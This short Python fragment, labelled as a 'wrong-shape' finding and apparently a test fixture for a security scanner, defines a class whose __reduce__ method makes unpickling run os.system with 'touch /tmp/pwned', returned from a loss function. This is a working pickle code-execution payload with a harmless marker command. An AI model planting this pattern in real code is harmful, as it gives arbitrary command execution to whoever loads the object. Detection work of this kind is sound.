# finding: wrong-shape
class R:
    def __reduce__(s):
        import os

        return os.system, ("touch /tmp/pwned",)


def loss(z, y):
    return R()
